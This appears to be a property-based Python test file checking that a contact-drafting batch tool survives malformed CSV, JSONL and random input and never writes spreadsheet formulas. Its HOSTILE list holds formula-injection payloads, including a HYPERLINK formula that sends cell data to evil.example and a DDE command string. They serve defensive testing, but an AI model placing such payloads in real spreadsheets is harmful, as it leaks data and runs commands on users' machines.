"""Property-based tests of batch input with Hypothesis: whatever the file holds, the batch
never crashes and never loses, duplicates or reorders a row.

Generated CSV files vary the delimiter, quoting, line endings, encoding (UTF-8 with and
without BOM, cp1252, Latin-1, UTF-16), a LinkedIn preamble, duplicate and empty header
names, short and long rows, and cells with quotes, separators, line breaks, formulas and
huge texts. Every row carries a `ref` so the output can be matched back to the input.
Generated JSONL mixes good objects, broken lines, non-objects and blank lines. Random
bytes must end in a clear InputError or a finished run.

Runs draft offline with the deterministic composer (a few rows per file) in a workspace
whose guidance index is copied ready-made. Each test prints how many files it tried.
"""

from __future__ import annotations

import csv
import io
import json
import tempfile
from pathlib import Path
from typing import Any

import pytest
from fixtures.batchkit import read_journal, read_output, seed_workspace
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.batch import BatchOptions, BatchSummary, run_batch
from core.contacts import MAX_FIELD_CHARS
from core.errors import InputError
from core.formulas import looks_like_formula

# Huge cells make Hypothesis warn that a failing example would print large.
pytestmark = pytest.mark.filterwarnings("ignore::hypothesis.errors.HypothesisWarning")
# Small and without a deadline: every example drafts real rows on two busy cores.
PROPERTY_SETTINGS = settings(
    max_examples=40,
    deadline=None,
    database=None,  # hermetic: nothing written outside temporary folders
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.function_scoped_fixture,
    ],
)
KINDS = ("", "", "intro", "compliment", "follow_up", "Follow-Up", "sales pitch")
VALID_KINDS = {"", "intro", "compliment", "follow_up", "follow-up"}
NAMES = ("Priya Raman", "José Muñoz", "Mei Chen", "Kwame Mensah", "O'Neil, Dana", "Zoë")
HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '  "=1',
)
COLUMN_POOL = (
    "kind",
    "notes",
    "Notes",
    "notes",
    "their_work",
    "Their Work",
    "how we met",
    "event",
    "company",
    "Position",
    "private_notes",
    "email",
    "",
    " ",
    "Name",
    "status",
    "draft",
    "\ufeffweird",
)
# Text the product may meet in a cell; no surrogates (not encodable) and no NUL (a NUL
# early in a file means a spreadsheet binary, which is refused as a whole).
_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
    max_size=30,
)
CELLS = st.one_of(
    _TEXT,
    st.sampled_from(
        [
            "",
            '"',
            '""',
            "'",
            'She said "hi", then left',
            "a,b;c\td",
            "line one\nline two",
            "crlf\r\ninside",
            "lone\rcarriage",
            "\ufeffbom inside",
            "Ünïcödé – “quotes” — ok",
            "مرحبا",
            "👋🏽",
            *HOSTILE,
        ]
    ),
    st.builds(lambda n: "word " * n, st.integers(MAX_FIELD_CHARS // 5, MAX_FIELD_CHARS // 5 + 50)),
    st.builds(lambda n: "x" * n, st.sampled_from([MAX_FIELD_CHARS + 1, 140_000])),
)
NAME_CELLS = st.one_of(st.sampled_from(NAMES), st.sampled_from(HOSTILE), CELLS)


def _good(name: str, kind: str, cells: list[str]) -> bool:
    """Rows that must be drafted: a plain name, a kind that exists, no oversized cell."""
    return (
        name in NAMES
        and kind.strip().lower() in VALID_KINDS
        and all(len(c) <= MAX_FIELD_CHARS for c in cells)
    )


@st.composite
def csv_files(draw: st.DrawFn) -> tuple[bytes, str, list[dict[str, Any]]]:
    """(file bytes, suffix, expected rows) for a CSV a person or a tool could have made."""
    extra = draw(st.lists(st.sampled_from(COLUMN_POOL), max_size=5))
    header = ["ref", "name", "kind", *extra]
    n_rows = draw(st.integers(1, 4))
    rows, expected = [], []
    for i in range(n_rows):
        name = draw(NAME_CELLS)
        kind = draw(st.sampled_from(KINDS))
        others = [draw(CELLS) for _ in extra]
        cells = [f"R{i}", name, kind, *others]
        # Some rows stop early (missing trailing cells) or run past the header.
        shape = draw(st.sampled_from(["full", "full", "short", "long"]))
        if shape == "short":
            cells = cells[: draw(st.integers(3, len(cells)))]
        elif shape == "long":
            cells += draw(st.lists(CELLS, min_size=1, max_size=2))
        rows.append(cells)
        expected.append({"ref": f"R{i}", "name": name, "good": _good(name, kind, cells)})
    buffer = io.StringIO(newline="")
    # Python's writer leaves a lone CR unquoted under "\n" line ends (a reader then sees two
    # records, rightly), so those files quote every cell, as Excel and Sheets do anyway.
    lineterminator, quoting = draw(
        st.sampled_from(
            [("\r\n", csv.QUOTE_MINIMAL), ("\r\n", csv.QUOTE_ALL), ("\n", csv.QUOTE_ALL)]
        )
    )
    writer = csv.writer(
        buffer,
        delimiter=draw(st.sampled_from([",", ",", ";", "\t"])),
        quoting=quoting,
        lineterminator=lineterminator,
    )
    if draw(st.booleans()):  # LinkedIn puts a few lines of notes before the header
        buffer.write('Notes:\n"When exporting your connection data, you may notice ..."\n\n')
    writer.writerow(header)
    writer.writerows(rows)
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16"]))
    data = buffer.getvalue().encode(encoding, errors="replace")
    return data, draw(st.sampled_from([".csv", ".txt", ""])), expected


def _jsonl_values() -> st.SearchStrategy[Any]:
    scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), CELLS)
    return st.recursive(scalars, lambda inner: st.lists(inner, max_size=3), max_leaves=5)


@st.composite
def jsonl_files(draw: st.DrawFn) -> tuple[bytes, str, list[dict[str, Any]]]:
    lines: list[str] = []
    expected: list[dict[str, Any]] = []
    for i in range(draw(st.integers(1, 5))):
        form = draw(st.sampled_from(["object", "object", "object", "broken", "list", "blank"]))
        if form == "blank":
            lines.append(draw(st.sampled_from(["", "   ", "\t"])))
            continue
        if form == "object":
            name = draw(NAME_CELLS)
            kind = draw(st.sampled_from(KINDS))
            record: dict[str, Any] = {"ref": f"R{i}", "name": name, "kind": kind}
            keys = draw(st.lists(st.sampled_from(COLUMN_POOL), max_size=3, unique=True))
            record.update({k: draw(_jsonl_values()) for k in keys if k not in record})
            text_cells = [v for v in record.values() if isinstance(v, str)]
            good = _good(name, kind, text_cells) and all(
                len(json.dumps(v)) <= MAX_FIELD_CHARS for v in record.values()
            )
            lines.append(json.dumps(record, ensure_ascii=draw(st.booleans())))
            expected.append({"ref": f"R{i}", "name": name, "good": good})
        elif form == "broken":
            lines.append(f'{{"ref": "R{i}", "name": "Cut off')
            expected.append({"ref": None, "name": None, "good": False})
        else:
            lines.append(json.dumps([f"R{i}", "not an object"]))
            expected.append({"ref": None, "name": None, "good": False})
    newline = draw(st.sampled_from(["\n", "\r\n"]))
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig"]))
    data = newline.join(lines).encode(encoding) + draw(st.sampled_from([b"", newline.encode()]))
    return data, draw(st.sampled_from([".jsonl", ".ndjson"])), expected


@pytest.fixture
def home(_hermetic_env: Path) -> Path:
    return seed_workspace(_hermetic_env)


def _run(data: bytes, suffix: str, folder: Path) -> tuple[BatchSummary, list[dict[str, str]]]:
    source = folder / f"contacts{suffix}"
    source.write_bytes(data)
    out = folder / "drafts.csv"
    summary = run_batch(source, out, BatchOptions(default_kind="intro"))
    return summary, read_output(out)


def _assert_every_row_once(
    summary: BatchSummary, output: list[dict[str, str]], expected: list[dict[str, Any]]
) -> None:
    assert summary.total == len(expected) == len(output)
    assert summary.ok + summary.flagged + summary.errors == len(expected)
    journal = read_journal(summary.journal_path or Path())
    assert len(journal) == len({r["row_id"] for r in journal}) == len(expected)
    for want, row in zip(expected, output, strict=True):
        if want["ref"] is not None:
            assert row["ref"] == want["ref"]  # in input order, none lost or duplicated
        assert row["status"] in {"ok", "flagged", "error"}
        if row["status"] == "error":
            assert row["error"].startswith("line "), row["error"]  # says where, and what
            assert len(row["error"]) > 20
        else:
            assert row["draft"].strip()
        if want["good"]:
            assert row["status"] in {"ok", "flagged"}, row["error"]
        if want["name"] in HOSTILE:  # never greeted by a formula (notes may quote it)
            assert want["name"].strip() not in (row["draft"].splitlines() or [""])[0]
        for cell in row.values():  # nothing a spreadsheet would run
            assert not looks_like_formula(cell) or cell.startswith("'")


def test_any_csv_drafts_every_good_row_once_in_order(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    tried = []

    @PROPERTY_SETTINGS
    @given(csv_files())
    def prop(case: tuple[bytes, str, list[dict[str, Any]]]) -> None:
        data, suffix, expected = case
        tried.append(len(expected))
        with tempfile.TemporaryDirectory() as folder:
            summary, output = _run(data, suffix, Path(folder))
            _assert_every_row_once(summary, output, expected)

    prop()
    with capsys.disabled():
        print(f"\n  hypothesis: {len(tried)} CSV files tried, {sum(tried)} rows")
    assert len(tried) >= PROPERTY_SETTINGS.max_examples


def test_any_jsonl_drafts_every_good_line_once_in_order(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    tried = []

    @PROPERTY_SETTINGS
    @given(jsonl_files())
    def prop(case: tuple[bytes, str, list[dict[str, Any]]]) -> None:
        data, suffix, expected = case
        tried.append(len(expected))
        with tempfile.TemporaryDirectory() as folder:
            if not expected:  # only blank lines: nothing to draft, and it says so
                with pytest.raises(InputError, match=r"no JSON lines|is empty"):
                    _run(data, suffix, Path(folder))
                return
            summary, output = _run(data, suffix, Path(folder))
            _assert_every_row_once(summary, output, expected)

    prop()
    with capsys.disabled():
        print(f"\n  hypothesis: {len(tried)} JSONL files tried, {sum(tried)} lines")
    assert len(tried) >= PROPERTY_SETTINGS.max_examples


def test_random_bytes_end_in_a_clear_error_or_a_finished_run(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    outcomes = {"refused": 0, "finished": 0}
    prefixes = st.sampled_from([b"", b"name,notes\n", b"\xef\xbb\xbfname;kind\r\n", b'{"name": '])

    @settings(PROPERTY_SETTINGS, max_examples=60)
    @given(prefixes, st.binary(max_size=600), st.sampled_from([".csv", ".jsonl", ""]))
    def prop(prefix: bytes, data: bytes, suffix: str) -> None:
        with tempfile.TemporaryDirectory() as folder:
            try:
                summary, output = _run(prefix + data, suffix, Path(folder))
            except InputError as exc:
                outcomes["refused"] += 1
                assert str(exc).strip() and "Traceback" not in str(exc)
                return
            outcomes["finished"] += 1
            assert summary.total == len(output) == summary.ok + summary.flagged + summary.errors
            journal = read_journal(summary.journal_path or Path())
            assert len(journal) == len({r["row_id"] for r in journal}) == summary.total
            assert all(r["status"] in {"ok", "flagged", "error"} for r in output)

    prop()
    with capsys.disabled():
        print(
            f"\n  hypothesis: {sum(outcomes.values())} random files tried "
            f"({outcomes['refused']} refused with a clear error, {outcomes['finished']} drafted)"
        )
    assert sum(outcomes.values()) >= 60
